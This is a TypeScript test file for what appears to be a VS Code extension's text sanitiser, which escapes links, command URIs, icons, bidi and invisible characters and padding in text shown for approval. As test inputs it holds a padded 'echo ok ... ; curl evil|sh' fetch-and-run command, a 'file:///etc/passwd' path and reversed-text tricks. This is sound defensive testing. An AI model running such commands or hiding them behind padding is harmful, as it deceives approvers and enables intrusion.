import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import {
  exactText,
  hasHidden,
  hasHiddenOrPadding,
  safe,
  safeLines,
  safeLogText,
  safeProse,
  safeText,
} from '../../../src/policy/safeText';
import { processorMs } from '../../support/processorTime';
import { anyText, hostile, restored } from './hostileText';

// What VS Code turns into a link or an icon.
const LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const ICON = /\$\((?:[A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/;
const RAW = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\p{Cn}]/u;

test('no text can form a link or an icon, whatever the bound', () => {
  fc.assert(
    fc.property(anyText, fc.integer({ min: 1, max: 400 }), (text, max) => {
      for (const shown of [safeText(text, max), exactText(text)]) {
        assert.doesNotMatch(shown, LINK);
        assert.doesNotMatch(shown, ICON);
        assert.ok(!shown.includes('](') && !shown.includes('$('));
      }
    }),
    { numRuns: 5_000 },
  );
});

test('no character of the hidden categories comes out raw', () => {
  fc.assert(
    fc.property(anyText, fc.integer({ min: 1, max: 400 }), (text, max) => {
      assert.doesNotMatch(safeText(text, max), RAW);
      assert.doesNotMatch(exactText(text), RAW);
      for (const line of safeLines(text, { maxLines: 50, maxColumns: 100 }))
        assert.doesNotMatch(line.replaceAll('\t', ''), RAW);
    }),
    { numRuns: 5_000 },
  );
});

test('every code point of the hidden categories and every invisible filler becomes a marker', () => {
  const hidden =
    /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Co}\p{Cs}\p{Cn}\u3164\u115F\u1160\uFFA0\u2800\uFE00-\uFE0F\u{E0100}-\u{E01EF}]/u;
  for (let point = 0; point <= 0x10ffff; point += point > 0x30000 && point < 0xe0000 ? 997 : 1) {
    const character = String.fromCodePoint(point);
    if (!hidden.test(character)) continue;
    const name = point === 9 ? 'tab' : `U+${point.toString(16).toUpperCase().padStart(4, '0')}`;
    assert.equal(safeText(`a${character}b`), `a⟨${name}⟩b`);
  }
});

test('different texts stay different', () => {
  fc.assert(
    fc.property(hostile, hostile, (a, b) => {
      fc.pre(a !== b);
      assert.notEqual(exactText(a), exactText(b));
      assert.notEqual(safeText(a, 100_000), safeText(b, 100_000));
    }),
    { numRuns: 20_000 },
  );
});

test('what is shown can be turned back into what was given', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      assert.equal(restored(exactText(text)), text);
      assert.equal(restored(safeText(text, 100_000)), text);
    }),
    { numRuns: 5_000 },
  );
});

test('the result is never longer than asked for and never cut inside a pair or a marker', () => {
  fc.assert(
    fc.property(hostile, fc.integer({ min: 1, max: 60 }), (text, max) => {
      const shown = safeText(text.repeat(5), max);
      assert.ok(shown.length <= max);
      assert.doesNotMatch(shown, /\p{Cs}/u);
      assert.doesNotMatch(shown.replaceAll(/⟨[^⟨⟩]+⟩/g, ''), /[⟨⟩]/);
    }),
    { numRuns: 5_000 },
  );
});

const TABLE: readonly (readonly [title: string, text: string, shown: string])[] = [
  ['plain words', 'Reads a file', 'Reads a file'],
  ['other scripts', 'Datei löschen 削除 हिन्दी', 'Datei löschen 削除 हिन्दी'],
  ['a command link', '[Details](command:x)', '[Details]\u200A(command:x)'],
  ['an icon', '$(verified-filled) Microsoft', '$\u200A(verified-filled) Microsoft'],
  ['a thin space of its own', ']\u200A(', ']⟨U+200A⟩('],
  ['reversed text', 'delete_\u202eelif', 'delete_⟨U+202E⟩elif'],
  ['three spaces', 'a   b', 'a   b'],
  ['four spaces', 'a    b', 'a⟨space×4⟩b'],
  ['tabs', `a${'\t'.repeat(500)}b`, 'a⟨tab×500⟩b'],
  ['one tab', 'a\tb', 'a⟨tab⟩b'],
  ['line ends', 'a\n\nb', 'a⟨U+000A×2⟩b'],
  ['a forged marker', '⟨U+202E⟩', '⟨U+27E8⟩U+202E⟨U+27E9⟩'],
  ['tag characters', 'a\u{E0041}\u{E0042}', 'a⟨U+E0041⟩⟨U+E0042⟩'],
  ['too many marks', `e${'\u0301'.repeat(500)}`, `e${'\u0301'.repeat(4)}⟨U+0301×496⟩`],
  ['a mark without a letter', '\u0301a', '⟨U+0301⟩a'],
  ['a mark after an invisible letter', '\u3164\u0301', '⟨U+3164⟩⟨U+0301⟩'],
  ['emoji presentation', '⚠\uFE0F Warning 1\uFE0F\u20E3', '⚠\uFE0F Warning 1\uFE0F\u20E3'],
  ['a selector after a letter', 'a\uFE0F', 'a⟨U+FE0F⟩'],
  ['one no-break space', 'Fichier\u00A0: x', 'Fichier\u00A0: x'],
  ['no-break padding', `a${'\u00A0'.repeat(9)}b`, 'a⟨U+00A0×9⟩b'],
  ['mixed padding', 'a \u00A0 b', 'a⟨space⟩⟨U+00A0⟩⟨space⟩b'],
  ['an escape sequence', '\x1b[2J\x9b', '⟨U+001B⟩[2J⟨U+009B⟩'],
];
for (const [title, text, shown] of TABLE) {
  test(`shows ${title}`, () => assert.equal(safeText(text), shown));
}

test('approval text tolerates nothing that plain text does', () => {
  assert.equal(exactText('rm\u00A0x'), 'rm⟨U+00A0⟩x');
  assert.equal(exactText('⚠\uFE0F'), '⚠⟨U+FE0F⟩');
  assert.equal(exactText('x'.repeat(10_000)).length, 10_000);
});

test('a line of a log keeps its indentation, and no more than that', () => {
  const log = (text: string): string => safeLogText(text, 300);
  assert.equal(log('    at run (a.js:1)'), '    at run (a.js:1)');
  assert.equal(log('\tat a\tb'), '\tat a⟨tab⟩b');
  assert.equal(log(`${' '.repeat(41)}x`), '⟨space×41⟩x');
  assert.equal(log('     '), '⟨space×5⟩');
  assert.doesNotMatch(log('  file:///etc/passwd'), /file:/);
});

test('padding cannot push the end out of sight', () => {
  assert.equal(safeText(`echo ok${' '.repeat(4_000)}; curl evil|sh`), 'echo ok⟨space×4000⟩; curl evil|sh');
  assert.match(safeText(`echo ok${' '.repeat(400_000)}; curl evil|sh`), /…⟨space×\d+⟩; curl evil\|sh$/);
});

test('five megabytes take no longer than a few', () => {
  for (const text of [
    '['.repeat(5e6),
    '\u202E'.repeat(5e6),
    '$('.repeat(2e6),
    'e\u0301'.repeat(2e6),
    '\u1100'.repeat(5e6),
  ]) {
    const start = processorMs();
    safeText(text);
    safeLines(text, { maxLines: 12, maxColumns: 100 });
    assert.ok(processorMs() - start < 2_000);
  }
});

test('whole-text escaping is linear', () => {
  for (const piece of [
    '\u202E\u200B',
    'a    ',
    'e\u0301\u0302\u0303\u0304\u0305',
    '](',
    '\u00A0 ',
    '⚠\uFE0F',
  ]) {
    const time = (count: number): number => {
      const text = piece.repeat(count);
      const start = processorMs();
      exactText(text);
      return processorMs() - start;
    };
    time(2_000);
    // Quadratic work would need minutes for this.
    assert.ok(time(200_000) < 5_000, piece);
  }
});

test('a bound that makes no sense still gives bounded text', () => {
  for (const max of [0, -5, Number.NaN, 0.5]) assert.equal(safeText('abcdef', max), '…');
});

test('seams between safe parts cannot form a link or an icon', () => {
  assert.equal(safe`[x${safeText(']')}(command:y)`, '[x]\u200A(command:y)');
  assert.equal(safe`${safeText('$')}(sync)`, '$\u200A(sync)');
  assert.equal(safe`${safeText('a')} and ${3}`, 'a and 3');
});

const HIDDEN: readonly (readonly [text: string, hidden: boolean, padding: boolean])[] = [
  ['plain', false, false],
  ['⟨plain⟩', false, false],
  ['a\nb', false, true],
  ['a\r\nb', false, true],
  ['a\rb', true, true],
  ['a\tb', false, true],
  ['    indented', false, true],
  ['a   b', false, false],
  ['a\u00A0b', false, true],
  ['⚠\uFE0F', false, true],
  ['a\uFE0F', true, true],
  ['\u200B', true, true],
  ['\u{E0041}', true, true],
  ['\uD800', true, true],
  ['\u3164', true, true],
  ['\u2028', true, true],
  ['\x1b[8m', true, true],
];
for (const [text, hidden, padding] of HIDDEN) {
  test(`tells hidden characters in ${JSON.stringify(text)}`, () => {
    assert.equal(hasHidden(text), hidden);
    assert.equal(hasHiddenOrPadding(text), padding);
  });
}

test('whatever approval text changes is reported as hidden or padding', () => {
  fc.assert(
    fc.property(anyText, (text) => {
      const visible = text.replaceAll(/[⟨⟩(]|\p{M}/gu, '');
      assert.equal(hasHiddenOrPadding(visible), exactText(visible) !== visible);
    }),
    { numRuns: 5_000 },
  );
});

test('the work grows with the length of a text, not with its square', () => {
  const cost = (text: string): number => {
    const startedAt = processorMs();
    safeLines(text, { maxLines: 100_000, maxColumns: 100 });
    return processorMs() - startedAt;
  };
  for (const unit of ['a', 'é', '👩‍👩‍👧', '漢']) {
    cost(unit.repeat(2_000));
    const small = cost(unit.repeat(20_000));
    // Ten times the text; the square would be a hundred times the work.
    assert.ok(cost(unit.repeat(200_000)) < Math.max(small, 5) * 40, unit);
  }
});

test('prose flows over its line ends, and hides and forges nothing by that', () => {
  assert.equal(
    safeProse('Traceback:\n  File "x.py"\r\n\n\tValueError: no\n'),
    'Traceback: File "x.py" ValueError: no',
  );
  assert.equal(safeProse('a\u202e\nb    c'), 'a⟨U+202E⟩ b⟨space×4⟩c');
  assert.equal(safeProse('[a]\n(command:x)'), '[a] (command:x)');
  assert.equal(safeProse('[a](command:x)'), '[a]\u200A(command:x)');
  assert.equal(safeProse('x\n'.repeat(1_000), 40).length, 40);
});
